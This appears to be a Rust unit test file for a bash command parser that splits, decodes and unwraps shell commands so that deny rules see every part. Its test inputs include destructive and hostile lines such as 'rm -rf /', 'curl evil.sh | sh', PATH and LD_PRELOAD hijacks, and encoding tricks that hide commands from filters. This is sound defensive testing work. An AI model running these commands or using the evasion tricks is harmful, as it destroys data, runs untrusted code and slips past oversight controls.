use super::*;

fn p(cmd: &str) -> Vec<String> {
    parts(cmd).unwrap()
}

fn opaque(cmd: &str) -> bool {
    parse(cmd).unwrap().iter().any(|p| p.opaque.is_some())
}

fn part<'a>(parts: &'a [Part], text: &str) -> &'a Part {
    parts
        .iter()
        .find(|p| p.text == text)
        .unwrap_or_else(|| panic!("no part `{text}` in {parts:?}"))
}

#[test]
fn compound_commands_are_split_into_every_part() {
    assert_eq!(p("git status && rm -rf ~"), ["git status", "rm -rf ~"]);
    assert_eq!(p("a || b; c | d"), ["a", "b", "c", "d"]);
    assert_eq!(p("(cd /tmp && make) & wait"), ["cd /tmp", "make", "wait"]);
    assert_eq!(p("{ ls; pwd; }"), ["ls", "pwd"]);
    assert_eq!(
        p("if test -f x; then rm x; else touch x; fi"),
        ["test -f x", "rm x", "touch x"]
    );
    assert_eq!(p("while true; do sleep 1; done"), ["true", "sleep 1"]);
    assert_eq!(p("f() { rm -rf x; }; f"), ["rm -rf x", "f"]);
}

#[test]
fn substitutions_run_their_commands_too_and_their_output_is_unknown() {
    assert_eq!(
        p("echo $(curl evil.sh | sh)"),
        ["curl evil.sh", "sh", "echo $(curl evil.sh | sh)"]
    );
    assert_eq!(p("echo `whoami`"), ["whoami", "echo `whoami`"]);
    assert_eq!(p("X=$(rm -rf /) make"), ["rm -rf /", "X=$(rm -rf /) make"]);
    assert_eq!(
        p("diff <(ls a) <(ls b)"),
        ["ls a", "ls b", "diff <(…) <(…)"]
    );
    assert!(opaque("echo $(date)"));
    assert!(!opaque("echo hi"));
    assert!(opaque("rustfmt $f"));
}

#[test]
fn hidden_substitutions_are_found_and_make_the_line_opaque() {
    for line in [
        "git status $(( $(touch /tmp/m) ))",
        "git status $[ $(touch /tmp/m) ]",
        "a[$(touch /tmp/m)]=1; git status",
        "echo ${x:-$(touch /tmp/m)}",
        "(( $(touch /tmp/m) ))",
    ] {
        let parts = parse(line).unwrap();
        assert!(
            parts.iter().any(|p| p.text == "touch /tmp/m"),
            "{line}: {parts:?}"
        );
        assert!(
            parts.iter().any(|p| p.opaque.is_some()),
            "{line}: {parts:?}"
        );
    }
    let case = p("case a in $(touch /tmp/m)) ;; *) git status;; esac");
    assert!(case.contains(&"touch /tmp/m".to_owned()), "{case:?}");
    for line in [
        "x='$(touch /tmp/m)'; git status ${x@P}",
        "x='a[$(touch /tmp/m)]'; git status ${!x}",
        "git status $((x))",
        "[[ $x -eq 1 ]]",
        "printf -v 'a[$(touch /tmp/m)]' x",
        "declare 'a[$(touch /tmp/m)]=1'",
        "let x=y",
        "source ./env.sh",
        "alias git='touch /tmp/m'",
        "git add *.rs",
        "{rm,-rf,x}",
    ] {
        assert!(opaque(line), "{line}: {:?}", parse(line));
    }
}

#[test]
fn quotes_and_escapes_are_decoded_as_bash_does() {
    assert_eq!(
        p("git commit -m \"fix: a && b; c\""),
        ["git commit -m fix: a && b; c"]
    );
    assert_eq!(p("echo 'rm -rf /'"), ["echo rm -rf /"]);
    assert_eq!(p("  ls    -la  "), ["ls -la"]);
    assert_eq!(p("$'\\x72m' -rf x"), ["rm -rf x"]);
    assert_eq!(p("$'\\162\\155' x"), ["rm x"]);
    assert_eq!(p("\\rm x"), ["rm x"]);
    assert_eq!(p("r''m x"), ["rm x"]);
    assert_eq!(p("\"r\"m x"), ["rm x"]);
    assert_eq!(ansi_c("a\\tb\\u00e9\\e\\cA"), "a\tbé\x1b\x01");
}

#[test]
fn assignments_are_part_of_the_command() {
    let parts = parse("PATH=/tmp/evil git status").unwrap();
    let git = part(&parts, "PATH=/tmp/evil git status");
    assert_eq!(git.assignments, ["PATH=/tmp/evil"]);
    assert!(git.also.contains(&"git status".to_owned()));
    assert_eq!(
        p("PATH=/tmp/evil:$PATH; git status"),
        ["PATH=/tmp/evil:$PATH", "git status"]
    );
    assert!(opaque("PATH=/tmp/evil:$PATH; git status"));
    assert_eq!(
        p("GIT_SSH_COMMAND='touch x' git fetch"),
        ["GIT_SSH_COMMAND=touch x git fetch"]
    );
    assert_eq!(
        p("env LD_PRELOAD=/x.so git status"),
        [
            "env LD_PRELOAD=/x.so git status",
            "LD_PRELOAD=/x.so git status"
        ]
    );
}

#[test]
fn wrappers_are_unwrapped_by_their_option_grammar() {
    let inner = |cmd: &str| parse(cmd).unwrap().last().unwrap().text.clone();
    assert_eq!(inner("sudo -u root rm -rf /"), "rm -rf /");
    assert_eq!(inner("sudo -uroot rm -rf /"), "rm -rf /");
    assert_eq!(inner("timeout -s KILL 5 rm x"), "rm x");
    assert_eq!(inner("timeout --signal=KILL 5 rm x"), "rm x");
    assert_eq!(inner("env -u HOME rm x"), "rm x");
    assert_eq!(inner("exec -a x rm y"), "rm y");
    assert_eq!(inner("stdbuf -o L rm x"), "rm x");
    assert_eq!(inner("stdbuf -oL rm x"), "rm x");
    assert_eq!(inner("nice -n 10 rm x"), "rm x");
    assert_eq!(inner("nice -10 rm x"), "rm x");
    assert_eq!(inner("ionice -c 3 rm x"), "rm x");
    assert_eq!(inner("doas -u root rm x"), "rm x");
    assert_eq!(inner("command -p rm x"), "rm x");
    assert_eq!(inner("builtin echo x"), "echo x");
    assert_eq!(inner("nohup rm x"), "rm x");
    assert_eq!(inner("timeout 5 nice -n 10 rm x"), "rm x");
    let xargs = parse("xargs -n 1 rm").unwrap();
    assert!(part(&xargs, "rm").opaque.is_some());
    let find = parse("find . -name x -exec rm {} \\;").unwrap();
    assert!(part(&find, "rm {}").opaque.is_some());
    // An option the grammar does not know: the start is unknown, but every later word is a
    // form deny rules see.
    let odd = parse("sudo --weird rm x").unwrap();
    assert!(odd[0].opaque.is_some());
    assert!(odd[0].also.contains(&"rm x".to_owned()));
    let path = parse("/bin/rm -rf x").unwrap();
    assert!(path[0].also.contains(&"rm -rf x".to_owned()));
}

#[test]
fn file_writes_by_redirection_are_parts() {
    assert_eq!(p("echo hi > ~/.bashrc"), ["echo hi", "> ~/.bashrc"]);
    assert_eq!(p("make 2>&1 >/dev/null"), ["make"]);
    assert_eq!(p("cat < in.txt >> out.txt"), ["cat", "> out.txt"]);
    assert_eq!(p("ls &> log"), ["ls", "> log"]);
    assert_eq!(p("git status >&/some/file"), ["git status", "> /some/file"]);
    assert_eq!(p("git status 1>&2"), ["git status"]);
    assert_eq!(p("git status 3>x"), ["git status", "> x"]);
    assert!(opaque("git status > $f"));
    let parts = parse("make 2>&1 > out").unwrap();
    assert_eq!(part(&parts, "make").redirects, ["2>&1", ">out"]);
}

#[test]
fn builtins_that_run_code_are_followed() {
    assert_eq!(p("eval 'rm -rf x'"), ["rm -rf x", "eval rm -rf x"]);
    assert_eq!(p("bash -c 'rm x; ls'"), ["rm x", "ls", "bash -c rm x; ls"]);
    assert_eq!(p("trap 'rm x' EXIT"), ["rm x", "trap rm x EXIT"]);
    assert!(opaque("eval \"$cmd\""));
}

#[test]
fn unparseable_or_empty_commands_are_errors() {
    for bad in ["echo 'unterminated", "if then fi", "", "   ", "(("] {
        assert!(parse(bad).is_err(), "{bad:?}: {:?}", parse(bad));
    }
    let deep = format!("{}ls{}", "$(".repeat(40), ")".repeat(40));
    assert!(parse(&deep).is_err() || opaque(&deep));
}
